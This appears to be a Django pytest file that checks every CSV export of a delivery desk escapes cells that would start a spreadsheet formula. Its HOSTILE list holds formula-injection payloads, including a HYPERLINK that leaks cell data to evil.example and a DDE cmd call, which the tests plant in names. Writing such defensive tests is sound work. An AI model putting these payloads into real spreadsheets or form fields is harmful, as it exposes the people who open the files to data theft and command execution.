"""Every CSV export of the desk goes through one writer (core.csv_export) and no cell of any of
them starts a spreadsheet formula (issue 17, item 4: the dashboard wrote `=HYPERLINK(…)`,
`=cmd|…` and `+SUM(…)` as they were)."""

import csv
import io
import re
from datetime import timedelta
from decimal import Decimal
from html import unescape
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import timezone

from core.csv_export import FORMULA_STARTS, csv_cell
from core.tests.factories import UserFactory
from customers.tests.factories import FeedbackFactory
from delivery import rollup
from delivery.tests.dashboard_data import attempt, order
from delivery.tests.factories import CourierFactory
from inquiries.services import inquiry_open, inquiry_reply
from orders.models import PaymentMethod
from orders.tests.factories import BrandFactory

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"Vahe")', "+SUM(1,2)",
           "=cmd|' /C calc'!A0", "@SUM(A1:A9)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_a_text_cell_never_starts_a_formula_and_a_number_stays_a_number():
    for text in HOSTILE:
        assert csv_cell(text) == "'" + text
    assert csv_cell("-5") == "'-5"  # text that looks like a number is still text
    assert csv_cell(-5) == -5 and csv_cell(Decimal("-1500.00")) == Decimal("-1500.00")
    assert csv_cell(-2.5) == -2.5 and csv_cell(None) == "" and csv_cell("Vahe") == "Vahe"
    assert csv_cell(True) == "True"


def test_one_writer_for_the_whole_desk():
    """No module but core/csv_export.py writes CSV (tests and the virtualenv aside)."""
    root = Path(settings.BASE_DIR)
    writers = sorted(
        str(path.relative_to(root)) for path in root.rglob("*.py")
        if not {".venv", "tests", "migrations", "node_modules"} & set(path.parts)
        and re.search(r"^\s*(import csv|from csv import)", path.read_text(), re.M))
    assert writers == ["core/csv_export.py"]


@pytest.fixture
def hostile(db):
    """Names people type, made hostile, behind every figure an export shows: a brand, couriers
    (delivery, couriers and sales tables, feedback), an operator (reply speed)."""
    yesterday = timezone.localdate() - timedelta(days=1)
    brand = BrandFactory(code="evil", name=HOSTILE[0])
    vahe, gor = CourierFactory(name=HOSTILE[1]), CourierFactory(name=HOSTILE[2])
    for courier in (vahe, gor):
        made = order(courier=courier, day=yesterday, brand=brand,
                     payment_method=PaymentMethod.CASH, total=Decimal("20000"))
        attempt(made, courier, delivered_at=timezone.now() - timedelta(days=1))
        FeedbackFactory(order=made, courier=courier, rating=1, answered_at=timezone.now())
    rollup.rollup_rebuild()
    # Reply speed names an operator by their login or by their name: both hostile.
    operator = UserFactory(role="operator", username=HOSTILE[3], first_name=HOSTILE[4],
                           last_name="")
    asked = inquiry_open(tab="order", channel="email", text="Where is it?",
                         email="lilit@example.com", name=HOSTILE[5])
    inquiry_reply(inquiry_id=asked.pk, text="On its way", actor=operator)
    return brand


def desk_pages() -> list[str]:
    """Every page of the desk without a parameter in its path, from the URLconf."""
    found = []

    def walk(patterns, prefix):
        for entry in patterns:
            route = str(entry.pattern)
            if "<" in route or "(?P" in route:
                continue
            if isinstance(entry, URLResolver):
                walk(entry.url_patterns, prefix + route)
            elif isinstance(entry, URLPattern):
                found.append("/" + prefix + route)

    walk(get_resolver().url_patterns, "")
    return sorted(path for path in found if path.startswith("/desk/"))


def exports(client, page: str) -> set[str]:
    """The page's own download links (a query on the same page), and ?format=csv besides."""
    response = client.get(page)
    links = {page + "?format=csv"}
    if response.status_code == 200 and "html" in response.get("Content-Type", ""):
        for href in re.findall(r'href="(\?[^"]*)"', response.content.decode()):
            links.add(page + unescape(href))
    return links


@pytest.mark.django_db
def test_no_cell_of_any_export_starts_a_formula(client, hostile):
    client.force_login(UserFactory(role="admin", username="boss", is_staff=True))
    checked, neutralised = {}, {}
    for page in desk_pages():
        for link in sorted(exports(client, page)):
            response = client.get(link)
            if not response.get("Content-Type", "").startswith("text/csv"):
                continue
            rows = list(csv.reader(io.StringIO(response.content.decode())))
            cells = [cell for row in rows for cell in row]
            assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)], link
            checked[link] = len(rows)
            neutralised[page] = neutralised.get(page, 0) + sum(
                cell[1:] in HOSTILE for cell in cells if cell.startswith("'"))
    # The walk found the desk's exports, and the hostile names reached each of them.
    assert {"/desk/dashboard/", "/desk/feedback/", "/desk/inquiries/speed/"} <= set(neutralised)
    assert all(neutralised.values()), neutralised
    assert sum(1 for link in checked if "export=" in link) >= 4  # the dashboard's tables
